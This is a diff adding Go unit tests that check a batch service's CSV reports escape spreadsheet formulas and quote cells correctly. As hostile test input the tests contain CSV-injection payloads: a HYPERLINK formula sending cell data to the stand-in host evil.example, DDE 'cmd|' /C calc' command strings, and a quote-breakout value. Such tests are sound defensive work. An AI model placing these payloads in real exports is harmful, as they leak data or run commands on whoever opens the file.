@@ -1,7 +1,9 @@
 package batch
 
 import (
+	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"strings"
 	"testing"
@@ -119,4 +121,62 @@ func TestReadStampsTheUploaderOfTheFilesGrant(t *testing.T) {
 			assert.Equal(t, c.want, chunk(s3))
 		})
 	}
+}
+
+// A batch report opened in a spreadsheet must not run what an uploader wrote: every cell
+// that a spreadsheet would read as a formula (=, +, -, @, a tab or a CR first) gets a
+// leading ' (OWASP CSV injection), and every cell is CSV-quoted as needed, so a quote or a
+// comma cannot start a new cell. An invalid line's raw kind and external id are what the
+// uploader controls.
+func TestReportCellsCannotBeFormulas(t *testing.T) {
+	s3 := storetest.NewS3()
+	s3.Put("inbox/bank-a/x.csv", []byte("schema_version,kind,external_id\n"))
+	h := handler(s3, ibatch.DefaultLimits)
+	hostile := []contract.BatchLineResult{
+		{Line: 2, Kind: `=HYPERLINK("http://evil.example/?"&A1,"click")`, ExternalID: "+cmd|' /C calc'!A0", Outcome: contract.LineError,
+			Error: "kind: must be refund, declaration or account_event"},
+		{Line: 3, Kind: "@SUM(1+1)*cmd|' /C calc'!A0", ExternalID: "-2+3", Outcome: contract.LineError, Error: "=1+1"},
+		{Line: 4, Kind: "\t=1+1", ExternalID: "\r=1+1", Outcome: contract.LineError, Error: "x"},
+		{Line: 5, Kind: "refund", ExternalID: `a","=1+1`, Outcome: contract.LineCreated, CaseID: "refund-1"},
+	}
+	_, err := h(context.Background(), contract.BatchInput{Op: contract.BatchOpRecord, BatchID: "batch-1", Chunk: 0, Results: hostile})
+	require.NoError(t, err)
+	out, err := h(context.Background(), contract.BatchInput{Op: contract.BatchOpFinish, BatchID: "batch-1", Key: "inbox/bank-a/x.csv", Chunks: 1, Run: "r1"})
+	require.NoError(t, err)
+	var fin contract.BatchFinishResult
+	require.NoError(t, json.Unmarshal(out, &fin))
+	rows, err := csv.NewReader(bytes.NewReader(s3.Objects[fin.ReportKey])).ReadAll()
+	require.NoError(t, err, "the report is valid CSV")
+	require.Len(t, rows, 1+len(hostile), "one row per line: no cell broke out into a row of its own")
+	for i, row := range rows {
+		require.Len(t, row, 6, "row %d: a cell broke out into cells of its own: %q", i, row)
+		for j, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %d cell %d starts a formula: %q", i, j, cell)
+			}
+		}
+	}
+	// What was written is kept, behind the quote: the reader still sees what was sent.
+	assert.Equal(t, "'"+hostile[0].Kind, rows[1][2])
+	assert.Equal(t, "'"+hostile[0].ExternalID, rows[1][1])
+	assert.Equal(t, "'-2+3", rows[2][1])
+	assert.Equal(t, "'=1+1", rows[2][5])
+	assert.Equal(t, "'\t=1+1", rows[3][2])
+	assert.Equal(t, `a","=1+1`, rows[4][1], "a quote inside a cell stays inside it")
+	assert.Equal(t, "refund-1", rows[4][4])
+}
+
+// A whole-file refusal's reason is a cell too.
+func TestRefusedReportReasonCannotBeAFormula(t *testing.T) {
+	s3 := storetest.NewS3()
+	s3.Put("inbox/bank-a/x.csv", []byte("x"))
+	h := handler(s3, ibatch.DefaultLimits)
+	out, err := h(context.Background(), contract.BatchInput{Op: contract.BatchOpFinish, BatchID: "batch-1", Key: "inbox/bank-a/x.csv", Run: "r1",
+		Refusal: &contract.BatchRefusal{Code: "=cmd", Reason: "x"}})
+	require.NoError(t, err)
+	var fin contract.BatchFinishResult
+	require.NoError(t, json.Unmarshal(out, &fin))
+	rows, err := csv.NewReader(bytes.NewReader(s3.Objects[fin.ReportKey])).ReadAll()
+	require.NoError(t, err)
+	assert.Equal(t, "'=cmd: x", rows[1][5])
 }
